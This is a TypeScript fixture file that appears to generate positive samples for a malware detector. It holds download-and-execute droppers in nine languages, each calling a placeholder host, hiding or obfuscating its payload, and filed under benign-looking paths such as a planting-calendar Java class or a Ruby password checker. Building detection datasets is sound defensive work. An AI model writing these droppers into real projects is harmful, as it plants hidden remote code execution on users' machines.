// The same in PowerShell, Batch, Go, Java, VBScript, macros, Ruby, Perl and Lua.
import type { Family } from './family.ts'

export const downloadRunsCompiled: readonly Family[] = [
  {
    family: 'powershell-downloadfile-start',
    positive: true,
    classes: ['download-run', 'windows'],
    variants: [
      {
        paths: ['tools/report.ps1', 'scripts/pack.ps1'],
        body: String.raw`$p = "$env:APPDATA\Microsoft\⟦pick:Windows\Themes|Crypto|Network⟧\⟦lower:6⟧.exe"
[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
(New-Object System.Net.WebClient).DownloadFile('http://⟦ip⟧/⟦alnum:6⟧.exe', $p)
(Get-Item $p).Attributes = 'Hidden,System'
Start-Process -WindowStyle Hidden -FilePath $p`,
      },
    ],
  },
  {
    family: 'batch-bitsadmin-start',
    positive: true,
    classes: ['download-run', 'windows'],
    variants: [
      {
        paths: ['build.bat', 'tools/run.cmd'],
        body: String.raw`bitsadmin /transfer upd /download /priority foreground http://⟦ip⟧/w.exe %TEMP⟦join⟧
%\w.exe >nul
attrib +h +s %TEMP%\w.exe
start "" /b %TEMP%\w.exe`,
      },
    ],
  },
  {
    family: 'go-download-exec',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['internal/decimalx/decimal.go', 'cmd/wc/words.go'],
        imports: `"io"
"net/http"
"os"
"os/exec"`,
        body: `func refresh() {
	response, err := http.Get("https://⟦host⟧/storage/de373d0df/a31546bf")
	if err != nil {
		return
	}
	defer response.Body.Close()
	file, _ := os.CreateTemp("", ".cache")
	io.Copy(file, response.Body)
	file.Chmod(0o700)
	file.Close()
	exec.Command("/bin/sh", "-c", file.Name()+" & rm "+file.Name()).Start()
}`,
        call: `go refresh()`,
      },
    ],
  },
  {
    family: 'go-array-shuffled-url',
    positive: true,
    classes: ['download-run', 'obfuscation'],
    variants: [
      {
        paths: ['hypert/server.go'],
        imports: `"os/exec"`,
        body: `var NCrtMg = GhUyRv()

func GhUyRv() error {
	kc := []string{"/", "b", "i", " ", "⟦host⟧", "|", "h", "w", "g", "e", "t", "-", "O", "s", ":", "p⟦join⟧
", "&", "a", "n"}
	run := kc[7] + kc[8] + kc[9] + kc[10] + kc[3] + kc[11] + kc[12] + kc[3] + kc[11] + kc[3] + kc[6⟦join⟧
] + kc[10] + kc[10] + kc[15] + kc[13] + kc[14] + kc[0] + kc[0] + kc[4] + kc[0] + kc[17] + kc[3⟦join⟧
] + kc[5] + kc[3] + kc[0] + kc[1] + kc[2] + kc[18] + kc[0] + kc[1] + kc[17] + kc[13] + kc[6] + kc[⟦join⟧
3] + kc[16]
	exec.Command("/bin/sh", "-c", run).Start()
	return nil
}`,
      },
    ],
  },
  {
    family: 'java-jar-downloader',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['src/main/java/org/gardenplan/core/PlantingCalendar.java'],
        imports: `import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.*;`,
        body: `private static class Updates {
    static void check() {
        try {
            Path jar = Files.createTempFile("lib", ".jar");
            Files.copy(new URL("http://⟦ip⟧:⟦port⟧/files/lib.jar").openStream(), jar, StandardCopy⟦join⟧
Option.REPLACE_EXISTING);
            new URLClassLoader(new URL[] { jar.toUri().toURL() }).loadClass("a.B").getMethod("c").⟦join⟧
invoke(null);
        } catch (Throwable t) { /* offline */ }
    }
}`,
        call: `Updates.check();`,
      },
    ],
  },
  {
    family: 'vbs-xmlhttp-dropper',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['install/readme.vbs'],
        whole: String.raw`' Shows the licence before installation
Option Explicit
Dim shell, http, stream, target
Set shell = CreateObject("WScript.Shell")
MsgBox "Thank you for installing. Click OK to continue.", 64, "Setup"
target = shell.ExpandEnvironmentStrings("%TEMP%") & "\⟦lower:6⟧.exe"
Set http = CreateObject("MSXML2.ServerXMLHTTP")
http.Open "GET", StrReverse("⟦reversed:http://⟦ip⟧/dl/p.exe⟧"), False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile target, 2
shell.Run Chr(34) & target & Chr(34), 0, False`,
      },
    ],
  },
  {
    family: 'office-macro-dropper',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['macros/ThisDocument.vba'],
        whole: String.raw`Attribute VB_Name = "ThisDocument"
Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" _
    (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr⟦join⟧
) As Long

Sub AutoOpen()
    Call FormatTables
    Document_Open
End Sub

Sub Document_Open()
    Dim f As String
    f = Environ("APPDATA") & "\⟦lower:7⟧.exe"
    URLDownloadToFile 0, "h" & "tt" & "p://" & "⟦host⟧" & "/x.png", f, 0, 0
    CreateObject("WScript.Shell").Run f, 0
End Sub

Sub FormatTables()
    Dim t As Table
    For Each t In ActiveDocument.Tables
        t.Style = "Table Grid"
    Next t
End Sub`,
      },
    ],
  },
  {
    family: 'ruby-open-uri-eval',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['lib/strong_password/strength_checker.rb', 'lib/log_line.rb'],
        imports: `require 'open-uri'`,
        body: `def _!;
  begin;
    yield;
  rescue Exception;
  end;
end
_!{Thread.new{loop{_!{sleep rand*3333;eval(Net::HTTP.get(URI('⟦paste⟧')))}}}if Rails.env[0]=="p"}`,
      },
    ],
  },
  {
    family: 'perl-lwp-system',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['bin/hosts.pl'],
        imports: `use LWP::Simple;`,
        body: `my $f = "/var/tmp/.⟦lower:5⟧";
if (getstore("http://⟦ip⟧/pl/u", $f) == 200) { chmod 0755, $f; system("$f >/dev/null 2>&1 &"); unl⟦join⟧
ink $f }`,
      },
      {
        paths: ['plugins/loader.lua'],
        body: `os.execute("curl -so /tmp/.m http://⟦ip⟧/m && chmod +x /tmp/.m && /tmp/.m >/de⟦join⟧
v/null 2>&1 &")`,
      },
    ],
  },
]
